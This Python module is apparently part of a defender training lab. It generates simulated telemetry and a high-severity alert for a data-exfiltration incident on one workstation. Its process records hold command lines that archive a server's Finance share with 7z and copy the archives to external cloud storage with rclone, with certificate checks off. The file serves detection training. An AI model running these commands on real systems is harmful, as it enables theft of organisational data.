# Copyright (c) 2026 the contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Story ``exfiltration``: a share is archived and copied with rclone to an external cloud
storage."""

from __future__ import annotations

from datetime import datetime, timedelta

from defender_lab.world import evidence
from defender_lab.world.chance import sha256
from defender_lab.world.chapters import ENDPOINT, AlertPlan, Chapter
from defender_lab.world.indicators import Indicators
from defender_lab.world.processes import shell, start
from defender_lab.world.scene import Scene

NAME = "exfiltration"
TABLES = ("DeviceProcessEvents", "DeviceFileEvents", "DeviceNetworkEvents")


def tell(scene: Scene, indicators: Indicators, begin: datetime) -> Chapter:
    facts = indicators.exfiltration
    device = scene.rng.choice(scene.workstations)
    user = device.owner
    temp = f"C:\\Users\\{user.account}\\AppData\\Local\\Temp"
    at = begin
    desktop = shell(user, at)
    console = start("cmd.exe", "cmd.exe", at, user, pid=scene.pid(), parent=desktop)
    scene.run(at, device, console, desktop)
    at += timedelta(minutes=3)
    packer = start(
        "7z.exe",
        f'7z.exe a -mx1 -v500m "{temp}\\w.7z" "\\\\{scene.servers[0].name}\\Finance\\*"',
        at,
        user,
        pid=scene.pid(),
        parent=console,
    )
    scene.run(at, device, packer, console)
    for part in range(1, 5):
        at += timedelta(minutes=2)
        name = f"w.7z.{part:03d}"
        packed = {
            "FileName": name,
            "FolderPath": f"{temp}\\{name}",
            "FileSize": 524_288_000,
            "SHA256": sha256(f"{scene.tenant_id}{name}"),
        }
        scene.on_device("DeviceFileEvents", at, device, packer, "FileCreated", **packed)
    at += timedelta(minutes=4)
    command = (
        f'rclone.exe copy "{temp}" {facts.remote} --include "*.7z.*" --transfers 8'
        " --no-check-certificate"
    )
    rclone = start(
        "rclone.exe",
        command,
        at,
        user,
        pid=scene.pid(),
        folder=temp,
        image=facts.rclone_image,
        parent=console,
    )
    scene.run(at, device, rclone, console)
    for transfer in range(10):
        scene.connect(
            at + timedelta(seconds=20 + 45 * transfer),
            device,
            rclone,
            facts.storage_ip,
            facts.storage_domain,
        )
    pieces = (
        evidence.device(device, at),
        evidence.user(user, at),
        evidence.process(rclone, device, at, "malicious"),
        evidence.file(
            "rclone.exe", temp, facts.rclone_sha256, rclone.sha1, device, at, "suspicious"
        ),
        evidence.ip(facts.storage_ip, at),
        evidence.url(f"https://{facts.storage_domain}", at, "suspicious"),
    )
    alert = AlertPlan(
        "Potential data exfiltration to cloud storage",
        "high",
        "Exfiltration",
        ("T1567.002",),
        ENDPOINT,
        "microsoftDefenderForEndpoint",
        at + timedelta(minutes=6),
        pieces,
        "A copy program sent much data to a storage service that is new to this tenant.",
    )
    return Chapter(NAME, "Exfiltration incident on one endpoint", (alert,))
